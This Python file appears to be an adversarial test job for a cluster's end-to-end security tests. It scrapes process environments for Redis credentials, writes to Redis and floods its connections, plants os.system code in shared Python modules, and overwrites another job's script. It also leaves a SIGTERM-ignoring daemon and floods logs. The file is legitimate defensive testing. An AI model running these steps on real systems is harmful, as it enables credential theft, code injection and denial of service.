"""A hostile job for tests/e2e/test_security.py: it tries, from inside a rank, what an untrusted
job would try against the cluster, and prints one line per attempt:
``ATTACK <what>: refused (<why>)`` or ``ATTACK <what>: SUCCEEDED (<what it got>)``.

Usage: attack.py OTHER_SPOOL_SCRIPT MIB MARKER — another job's spooled script, to rewrite; MiB of
output to flood its log with, then a last line ``ATTACK-END MARKER``.
"""

import os
import re
import signal
import socket
import sys
import time
import urllib.request


def report(what, ok, detail):
    print(f"ATTACK {what}: {'SUCCEEDED' if ok else 'refused'} ({detail})", flush=True)


def secrets_in(text):
    return re.findall(r"redis://[^\s\x00]*@[^\s\x00]+|(?:PASSWORD|TOKEN)=[^\x00\n]+", text)


def read_environments():
    found, unreadable = secrets_in("\n".join(f"{k}={v}" for k, v in os.environ.items())), 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                found += secrets_in(fh.read().decode(errors="replace"))
        except OSError:
            unreadable += 1
    report("read the Redis password", bool(found), f"{len(found)} found: {found}; {unreadable} environments unreadable")
    return found


def talk_to_redis(candidates):
    replies = []
    for auth in [None, *candidates]:
        try:
            with socket.create_connection(("redis", 6379), timeout=3) as s:
                if auth:
                    password = auth.rsplit("@", 1)[0].rsplit(":", 1)[-1]
                    s.sendall(f"AUTH {password}\r\n".encode())
                    s.recv(100)
                s.sendall(b"SET minihpc:attack owned\r\n")
                replies.append(s.recv(200).decode().strip())
        except OSError as exc:
            replies.append(f"{type(exc).__name__}: {exc}")
    report("write a key in Redis", any(r == "+OK" for r in replies), "; ".join(replies))


def flood_redis(count=10_000):
    """Open ``count`` connections to Redis and hold them: Redis's maxclients (10,000) used up
    would lock the daemons out."""
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 100), hard))
    held, error = [], "none"
    try:
        while len(held) < count:
            held.append(socket.create_connection(("redis", 6379), timeout=3))
    except OSError as exc:
        error = f"{type(exc).__name__}: {exc}"
    report(f"open {count} connections to Redis", len(held) == count, f"{len(held)} opened, then {error}")
    for s in held:
        s.close()


def call_restart_proxy():
    try:
        req = urllib.request.Request("http://restart-proxy:8700/restart/worker-node-1", data=b"", method="POST")
        with urllib.request.urlopen(req, timeout=3) as resp:
            report("call the restart proxy", True, f"HTTP {resp.status}")
    except Exception as exc:  # noqa: BLE001
        report("call the restart proxy", False, f"{type(exc).__name__}: {exc}")


def plant_modules():
    for path in ("/shared/jobs/redis.py", "/opt/minihpc/redis.py", "/opt/minihpc/src/minihpc/__init__.py",
                 "/opt/venv/lib/python3.11/site-packages/redis.py"):
        try:
            with open(path, "a") as fh:
                fh.write("\nimport os; os.system('touch /tmp/owned')\n")
            report(f"write {path}", True, "written")
        except OSError as exc:
            report(f"write {path}", False, f"{type(exc).__name__}: {exc.strerror}")


def rewrite_other_job(path):
    try:
        with open(path, "w") as fh:
            fh.write("print('rewritten by another job')\n")
        report("rewrite another job's spooled script", True, path)
        return
    except OSError as exc:
        first = f"{type(exc).__name__}: {exc.strerror}"
    try:
        tmp = os.path.join(os.path.dirname(path), ".swap")
        with open(tmp, "w") as fh:
            fh.write("print('rewritten by another job')\n")
        os.replace(tmp, path)
        report("rewrite another job's spooled script", True, f"replaced {path}")
    except OSError as exc:
        report("rewrite another job's spooled script", False, f"{first}; replace: {type(exc).__name__}: {exc.strerror}")


def signal_daemons():
    me, hits, refused = os.getuid(), [], 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat(f"/proc/{pid}").st_uid == me:
                continue
            os.kill(int(pid), 0)  # the permission check of a kill, delivering nothing
            hits.append(pid)
        except PermissionError:
            refused += 1
        except OSError:
            pass
    report("signal a daemon", bool(hits), f"{refused} processes refused, signalable: {hits}")


def leave_a_daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            print(f"left behind: pid {os.getpid()}", flush=True)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                time.sleep(1)
        os._exit(0)
    os.wait()
    print("ATTACK leave a daemon behind: started (the test checks it is gone)", flush=True)


def fill_the_disk_with_logs(mib, marker):
    print(f"ATTACK fill the disk with logs: started ({mib} MiB of output; the test checks the log is capped)",
          flush=True)
    line = "x" * (1024 * 1024 - 1) + "\n"
    for _ in range(mib):
        sys.stdout.write(line)
    print(f"ATTACK-END {marker}", flush=True)


if __name__ == "__main__":
    print(f"attacker uid {os.getuid()} gid {os.getgid()} groups {os.getgroups()}", flush=True)
    talk_to_redis(read_environments())
    flood_redis()
    call_restart_proxy()
    plant_modules()
    rewrite_other_job(sys.argv[1])
    signal_daemons()
    leave_a_daemon()
    fill_the_disk_with_logs(int(sys.argv[2]), sys.argv[3])
